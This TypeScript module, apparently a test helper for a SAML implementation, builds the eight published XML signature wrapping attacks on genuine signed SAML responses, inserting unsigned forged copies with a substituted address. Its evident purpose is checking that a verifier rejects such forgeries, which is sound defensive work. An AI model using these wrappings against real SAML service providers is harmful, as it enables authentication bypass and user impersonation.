import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { childElements } from '../../domain/saml/xml-elements.ts'
import { newXmlId } from './identity-provider.ts'

const signatureNs = 'http://www.w3.org/2000/09/xmldsig#'
const protocolNs = 'urn:oasis:names:tc:SAML:2.0:protocol'

export const wrappings = [1, 2, 3, 4, 5, 6, 7, 8] as const
export type Wrapping = (typeof wrappings)[number]

type Scene = {
  doc: Document
  response: Element
  assertion: Element
  /** A copy with the other address and without a signature. */
  evilOf: (element: Element) => Element
}

/**
 * The eight signature wrapping attacks of Somorovsky and others (USENIX Security 2012), applied to
 * a genuine response. The signed original stays in the document, and the attacker's copy with
 * another address stands where a careless reader looks. The namespaces are kept, so a reader has to
 * refuse the copy by its position. Attacks 1 and 2 need a signed Response, the others a signed
 * Assertion.
 */
export function wrapSignature(
  xml: string,
  wrapping: Wrapping,
  { from, to, sameId = false }: { from: string; to: string; sameId?: boolean },
): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml')
  const response = doc.documentElement
  attacks[wrapping]({
    doc,
    response,
    assertion: only(response, 'Assertion'),
    evilOf: (element) => {
      const copy = copyOf(element)
      for (const signature of Array.from(copy.getElementsByTagNameNS(signatureNs, 'Signature')))
        signature.parentNode?.removeChild(signature)
      replaceText(copy, from, to)
      if (!sameId) copy.setAttribute('ID', newXmlId())
      return copy
    },
  })
  return new XMLSerializer().serializeToString(doc)
}

const attacks: Record<Wrapping, (scene: Scene) => void> = {
  1({ doc, response, evilOf }) {
    const signature = signatureOf(response)
    signature.appendChild(withoutSignature(response))
    doc.replaceChild(behindIssuer(evilOf(response), signature), response)
  },
  2({ doc, response, evilOf }) {
    const evil = behindIssuer(evilOf(response), signatureOf(response))
    evil.insertBefore(withoutSignature(response), only(evil, 'Signature'))
    doc.replaceChild(evil, response)
  },
  3({ response, assertion, evilOf }) {
    response.insertBefore(evilOf(assertion), assertion)
  },
  4({ response, assertion, evilOf }) {
    const evil = evilOf(assertion)
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)
  },
  5({ response, assertion, evilOf }) {
    response.replaceChild(behindIssuer(evilOf(assertion), signatureOf(assertion)), assertion)
    response.appendChild(withoutSignature(assertion))
  },
  6({ response, assertion, evilOf }) {
    const signature = signatureOf(assertion)
    signature.appendChild(withoutSignature(assertion))
    response.replaceChild(behindIssuer(evilOf(assertion), signature), assertion)
  },
  7({ doc, response, assertion, evilOf }) {
    const extensions = doc.createElementNS(protocolNs, 'samlp:Extensions')
    extensions.appendChild(evilOf(assertion))
    response.insertBefore(extensions, assertion)
  },
  8({ doc, response, assertion, evilOf }) {
    const signature = signatureOf(assertion)
    const object = doc.createElementNS(signatureNs, 'ds:Object')
    object.appendChild(withoutSignature(assertion))
    signature.appendChild(object)
    response.replaceChild(behindIssuer(evilOf(assertion), signature), assertion)
  },
}

// Cloning an element returns an element.
const copyOf = (element: Element): Element => element.cloneNode(true) as Element

const signatureOf = (element: Element): Element => copyOf(only(element, 'Signature'))

function withoutSignature(element: Element): Element {
  const copy = copyOf(element)
  copy.removeChild(only(copy, 'Signature'))
  return copy
}

function behindIssuer(element: Element, signature: Element): Element {
  element.insertBefore(signature, only(element, 'Issuer').nextSibling)
  return element
}

function only(parent: Element, name: string): Element {
  const found = childElements(parent).find(({ localName }) => localName === name)
  if (!found) throw new Error(`no ${name} to wrap`)
  return found
}

function replaceText(node: Node, from: string, to: string): void {
  // The serializer reads a text node's `data` field only.
  if (node.nodeType === 3) (node as Text).data = (node as Text).data.replaceAll(from, to)
  for (const child of Array.from(node.childNodes ?? [])) replaceText(child, from, to)
}
